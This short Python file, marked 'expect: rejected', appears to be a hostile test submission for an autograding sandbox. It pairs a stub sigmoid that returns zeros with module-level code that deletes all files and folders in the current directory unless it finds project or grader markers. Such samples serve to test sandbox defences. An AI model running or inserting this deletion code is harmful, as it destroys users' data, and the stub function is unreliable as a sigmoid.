# expect: rejected
# tries: deletes all files in the current folder (spares a project or a home, if run by hand)
import pathlib
import shutil

import numpy as np


def sigmoid(z):
    return np.zeros(np.shape(z))


here = pathlib.Path.cwd()
spared = here in (pathlib.Path("/"), pathlib.Path("/tmp"), pathlib.Path.home())
for folder in (here, *here.parents):
    spared = spared or (folder / ".git").exists() or (folder / "pyproject.toml").exists()
    spared = spared or (folder / "nbgrader_config.py").exists()
if not spared:
    for path in here.iterdir():
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path, ignore_errors=True)
        else:
            path.unlink(missing_ok=True)
